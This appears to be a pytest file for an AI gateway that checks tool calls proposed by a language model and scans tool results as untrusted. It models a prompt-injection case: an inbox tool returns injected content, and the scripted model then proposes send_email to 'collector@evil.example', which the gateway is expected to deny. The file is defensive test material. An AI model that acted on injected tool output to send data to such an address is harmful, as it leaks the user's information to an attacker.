"""On the OpenAI routes, tool calls the model proposes are authorized before the client sees
them; tool results sent back (``role: tool``) are scanned as untrusted and taint the request."""

from __future__ import annotations

from collections.abc import AsyncIterator, Mapping
from pathlib import Path
from typing import Any

import orjson
import pytest

from tests.gateway.harness import Options, auth, harness
from tests.gateway.scripted import streamed_text
from tests.mcpgw.servers import INJECTED
from ztai.gateway.toolcalls import CallHold, proposed
from ztai.threats.shield import Shield
from ztai.upstream.interface import StreamEvent, UpstreamCall, UpstreamReply

pytestmark = pytest.mark.anyio


class ToolCallingUpstream:
    """A model that answers every request by proposing one call of ``send_email``."""

    name = "tool-caller"

    def __init__(self, to: str) -> None:
        self.arguments = orjson.dumps({"to": to, "subject": "s", "body": "b"}).decode()

    async def send(self, call: UpstreamCall) -> UpstreamReply:
        message = {"role": "assistant", "content": None, "tool_calls": [{
            "id": "call_1", "type": "function",
            "function": {"name": "send_email", "arguments": self.arguments}}]}
        return UpstreamReply(200, {"id": "c", "object": "chat.completion", "model": "m",
                                   "choices": [{"index": 0, "message": message,
                                                "finish_reason": "tool_calls"}]})

    async def stream(self, call: UpstreamCall) -> AsyncIterator[StreamEvent]:
        yield _chunk({"role": "assistant", "content": "Sending it now."})
        yield _chunk({"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                      "function": {"name": "send_email", "arguments": ""}}]})
        for start in range(0, len(self.arguments), 7):
            yield _chunk({"tool_calls": [{"index": 0, "function": {
                "arguments": self.arguments[start:start + 7]}}]})
        yield _chunk({}, "tool_calls")
        yield StreamEvent(None)

    async def aclose(self) -> None:
        return None


def _chunk(delta: dict[str, Any], finish: str | None = None) -> StreamEvent:
    return StreamEvent({"id": "c", "object": "chat.completion.chunk",
                        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})


def conversation(stream: bool) -> dict[str, Any]:
    """The agent read an e-mail through its own tool and sends the result back to the model."""
    return {"model": "demo-chat", "stream": stream, "messages": [
        {"role": "user", "content": "Summarise my inbox"},
        {"role": "assistant", "content": None, "tool_calls": [{
            "id": "call_0", "type": "function",
            "function": {"name": "read_inbox", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "call_0", "content": INJECTED}]}


@pytest.fixture(scope="module")
def shield() -> Shield:
    return Shield()


@pytest.mark.parametrize("stream", [False, True])
async def test_a_hijacked_proposal_never_reaches_the_client(tmp_path: Path, shield: Shield,
                                                             stream: bool) -> None:
    options = Options(upstream=ToolCallingUpstream("collector@evil.example"), shield=shield,
                      tool_calls=True,
                      policy_texts=_without_prompt_attack_block(tmp_path))
    async with harness(tmp_path, options) as h:
        answer = await h.client.post("/v1/chat/completions", json=conversation(stream),
                                     headers=auth(h.keys["alice"]))
        event = h.last_event()
    assert b"collector@evil.example" not in answer.content
    if stream:
        text, errors = streamed_text(answer.content)
        assert "send_email" not in text
        assert errors
        assert "no-outbound-after-attack" in errors[0]["message"]
    else:
        assert answer.status_code == 403
        assert "no-outbound-after-attack" in answer.json()["error"]["message"]
    assert event["decision"]["effect"] == "deny"
    assert event["details"]["denied_tool_call"] == "send_email"


@pytest.mark.parametrize("stream", [False, True])
async def test_an_internal_proposal_passes_whole(tmp_path: Path, shield: Shield,
                                                 stream: bool) -> None:
    options = Options(upstream=ToolCallingUpstream("carol@corp.example"), shield=shield,
                      tool_calls=True, policy_texts=_without_prompt_attack_block(tmp_path))
    async with harness(tmp_path, options) as h:
        answer = await h.client.post("/v1/chat/completions", json=conversation(stream),
                                     headers=auth(h.keys["alice"]))
        event = h.last_event()
    assert answer.status_code == 200
    if stream:
        parts = [orjson.loads(b[6:]) for b in answer.content.split(b"\n\n")
                 if b.startswith(b"data: {")]
        hold = CallHold()
        for part in parts:
            hold.push(StreamEvent(part))
        assert [c.arguments for c in hold.calls()] == [ToolCallingUpstream(
            "carol@corp.example").arguments]
    else:
        assert proposed(answer.json())[0].name == "send_email"
    assert event["decision"]["effect"] == "allow"
    assert event["details"]["tool_calls_authorized"] == 1


def test_proposed_calls_are_read_from_both_protocols() -> None:
    chat: Mapping[str, Any] = {"choices": [{"message": {"tool_calls": [
        {"function": {"name": "a", "arguments": "{}"}}]}}]}
    responses = {"output": [{"type": "message", "content": []},
                            {"type": "function_call", "name": "b", "arguments": "{\"x\":1}"}]}
    assert [(c.name, c.arguments) for c in proposed(chat)] == [("a", "{}")]
    assert [(c.name, c.arguments) for c in proposed(responses)] == [("b", "{\"x\":1}")]


def test_hold_releases_text_and_keeps_calls_until_complete() -> None:
    hold = CallHold()
    assert hold.push(_chunk({"content": "hi"})) != []
    assert hold.push(_chunk({"tool_calls": [{"index": 0, "function": {
        "name": "f", "arguments": "{\"a\""}}]})) == []
    assert not hold.complete
    assert hold.push(_chunk({"tool_calls": [{"index": 0, "function": {
        "arguments": ":1}"}}]})) == []
    hold.push(_chunk({}, "tool_calls"))
    assert hold.complete
    assert [(c.name, c.arguments) for c in hold.calls()] == [("f", "{\"a\":1}")]
    assert len(hold.release()) == 3


def test_hold_is_bounded() -> None:
    hold = CallHold()
    part = _chunk({"tool_calls": [{"index": 0, "function": {"arguments": "x" * 64}}]})

    def fill() -> None:
        for _ in range(100_000):
            hold.push(part)

    with pytest.raises(OverflowError):
        fill()


def _without_prompt_attack_block(tmp_path: Path) -> dict[str, str]:
    """The starter policies minus the rule that blocks requests carrying an attack, so the
    answer is produced and the proposal is what gets judged."""
    from ztai.policy.bundled import starter_policies

    texts = starter_policies()
    guardrails = texts["10-guardrails.cedar"]
    start = guardrails.index('@id("no-prompt-attacks")')
    end = guardrails.index("};", start) + 2
    texts["10-guardrails.cedar"] = guardrails[:start] + guardrails[end:]
    return texts
